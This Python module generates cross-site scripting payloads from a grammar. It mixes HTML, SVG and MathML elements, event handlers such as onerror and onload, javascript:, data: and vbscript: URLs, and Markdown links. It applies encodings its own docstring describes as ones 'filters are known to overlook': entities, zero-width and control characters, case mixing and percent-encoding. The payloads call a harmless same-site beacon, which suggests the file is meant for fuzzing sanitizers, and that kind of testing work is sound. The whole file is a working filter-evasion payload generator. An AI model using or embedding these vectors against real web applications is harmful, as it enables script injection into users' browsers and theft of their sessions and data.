"""Markup that wants to run, made by a grammar: elements × attributes × schemes × encodings × what stands around it."""

import random
from collections.abc import Iterator

CALL = "fetch(/hit/)"  # a regular expression becomes the text /hit/: no quotes, which many contexts would end at
_ELEMENTS = (
    "a abbr applet area article audio base bdo blockquote body button canvas center col custom-x data dd del details "
    "dialog div dl embed fieldset figure font footer form frame "
    "frameset h1 head html iframe image img input ins isindex keygen "
    "label legend li link listing main map mark marquee math "
    "menu meta meter nav noembed noframes noscript object ol option "
    "p param plaintext portal pre progress q rp samp script "
    "search section select slot source span style summary sup svg "
    "table tbody td template textarea tfoot th time title tr track u ul var video wbr xmp xss"
).split()
_FOREIGN = (
    "svg><animate", "svg><set", "svg><a", "svg><use",
    "svg><image", "svg><script", "svg><style", "svg><foreignObject><p",
    "svg><desc><img", "svg><title><img", "math><mi", "math><mtext><img", "math><annotation-xml encoding=text/html><img",
    "math><mtext><table><mglyph><style><!--</style><img",
    "svg><p><style><a", "form><math><mtext></form><form><mglyph><img",
)  # fmt: skip
_EVENTS = (
    "onerror onload onclick onfocus onblur onmouseover onpointerenter ontoggle onbegin onend onrepeat onstart onfinish "
    "onanimationstart ontransitionend onwheel onscroll onscrollend onbeforetoggle oncontentvisibilityautostatechange "
    "onplay oncanplay onloadstart onsuspend onhashchange onpageshow onpopstate onresize onsubmit onreset oninvalid "
    "oncut onpaste ondrag onkeydown onauxclick onsecuritypolicyviolation onunhandledrejection onmessage"
).split()
_ADDRESSES = (
    "href src srcset action formaction data background poster "
    "cite code codebase ping xlink:href dynsrc lowsrc longdesc "
    "manifest profile usemap archive classid from to values imagesrcset content srcdoc style"
).split()
_SCHEMES = (
    f"javascript:{CALL}", f"javascript://%0a{CALL}", f"javascript:/*--></title></style></textarea></script>*/{CALL}",
    f"vbscript:{CALL}", f"livescript:{CALL}", f"data:text/html,<script>{CALL}</script>",
    f"data:image/svg+xml,<svg/onload={CALL}>", "data:text/html;base64,PHNjcmlwdD5mZXRjaCgvaGl0Lyk8L3NjcmlwdD4=",
    f"view-source:javascript:{CALL}", f"feed:javascript:{CALL}", f"jar:javascript:{CALL}!/", f"blob:javascript:{CALL}",
    f"0;url=javascript:{CALL}", f"x:expression({CALL})", f"url(javascript:{CALL})", f"javascript:{CALL} 1x",
)  # fmt: skip
_AROUND = (
    "{}", "<p>{}</p>", '<a title="{}">x</a>', "<!--{}-->",
    "<!--><{}-->", "<![CDATA[{}]]>", "</p>{}<p>", "<b>{}", "`{}`",
    "[x]({})", "> {}", "* {}", "# {}",
    "| {} |\n|---|\n| {} |", "```{}\nx\n```", '![x](https://a.example "{}")', "<{}", "{}>",
    "<noscript>{}</noscript>", "<textarea>{}</textarea>",
    "<style>{}</style>", "<title>{}</title>", "<select>{}</select>",
    "<svg>{}</svg>", "<math><mtext>{}</mtext></math>", "<table>{}</table>", "<template>{}</template>", "<xmp>{}</xmp>",
    "<iframe>{}</iframe>", "<pre>{}</pre>", "<figure data-embed='{}'>x</figure>",
    "x[^1]\n\n[^1]: {}", "\\{}", "<scr{}ipt>",
)  # fmt: skip


def _entities(text: str, chance: random.Random) -> str:
    forms = ("&#{};", "&#{}", "&#x{:x};", "&#X{:X}", "&#0000{};")
    return "".join(chance.choice(forms).format(ord(c)) if chance.random() < 0.4 else c for c in text)


def _encode(text: str, chance: random.Random) -> str:
    """An address or a call as filters are known to overlook it."""
    match chance.randrange(12):
        case 0:
            return _entities(text, chance)
        case 1:
            return "".join(
                chance.choice((c.upper(), c.lower())) if c.isalpha() and at < 11 else c for at, c in enumerate(text)
            )
        case 2:
            return text[:4] + chance.choice("\t\n\r\x01\x0b\u200b\u00ad\u2028\ufeff") + text[4:]
        case 3:
            return chance.choice(" \t\n\x0c\x1f\u00a0\u3000\x85") + text
        case 4:
            return text.replace(":", "&colon;", 1)
        case 5:
            return text[:4] + chance.choice(("&Tab;", "&NewLine;", "&#9;", "&zwnj;", "&shy;")) + text[4:]
        case 6:
            return text.replace("s", "\u017f", 1).replace("<", "\uff1c")
        case 7:
            return "".join(f"%{ord(c):02x}" if chance.random() < 0.3 else c for c in text)
        case 8:
            return text.replace("<", "&lt;").replace(">", "&gt;")
    return text


def _attribute(chance: random.Random) -> str:
    if chance.random() < 0.5:
        name, value = chance.choice(_EVENTS), CALL
    else:
        name, value = chance.choice(_ADDRESSES), chance.choice(_SCHEMES)
    value = _encode(value, chance) if chance.random() < 0.6 else value
    quote = chance.choice(("", '"', "'", "`"))
    value = value if quote else value.replace(" ", "\x0c").replace(">", "&gt;")
    space, equals = (
        chance.choice((" ", " ", "/", "\t", "\n", "\x0c", "")),
        chance.choice(("=", "=", " = ", "\x0c=", "\n=\n")),
    )
    return f"{space or ' '}{name}{equals}{quote}{value}{quote}"


def _element(chance: random.Random) -> str:
    name = chance.choice(_FOREIGN) if chance.random() < 0.25 else chance.choice(_ELEMENTS)
    if chance.random() < 0.15:
        name = "".join(map(chance.choice, ((c.upper(), c) for c in name)))
    attributes = "".join(_attribute(chance) for _ in range(chance.randint(1, 3)))
    always = chance.choice(("", " src=x", " autofocus tabindex=0", " open", " style=display:block", " id=x name=body"))
    inner = chance.choice(("", "x", f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", "<a href=x>"))
    end = chance.choice(("", f"</{name.rpartition('<')[2].split()[0]}>", "<", "</"))
    return f"<{name}{attributes}{always}{chance.choice(('>', '>', '/>', '//>', ' '))}{inner}{end}"


def _markdown(chance: random.Random) -> str:
    address = _encode(chance.choice(_SCHEMES), chance)
    forms = (
        "[x]({})",
        "![x]({})",
        "[x](<{}>)",
        "<{}>",
        "[x]\n\n[x]: {}",
        "[x]( {} 'y')",
        "{}",
        '[x](https://a.example/"{}")',
    )
    return chance.choice(forms).replace("{}", address)


def make_vectors(number: int, seed: int) -> Iterator[str]:
    """Distinct vectors; the same seed makes the same ones."""
    chance, made = random.Random(seed), set[str]()
    while len(made) < number:
        vector = _markdown(chance) if chance.random() < 0.2 else _element(chance)
        if chance.random() < 0.5:
            vector = chance.choice(_AROUND).replace("{}", vector)
        if vector not in made:
            made.add(vector)
            yield vector
